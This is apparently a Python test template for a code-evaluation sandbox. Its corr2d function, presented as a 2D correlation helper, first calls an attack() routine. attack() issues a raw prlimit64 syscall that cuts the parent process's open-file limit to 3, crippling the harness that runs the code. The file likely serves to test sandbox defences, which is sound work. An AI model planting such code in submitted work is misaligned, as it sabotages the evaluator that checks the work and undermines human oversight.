import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    raw(302, os.getppid(), 7, (ctypes.c_uint64 * 2)(3, 3), None)
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
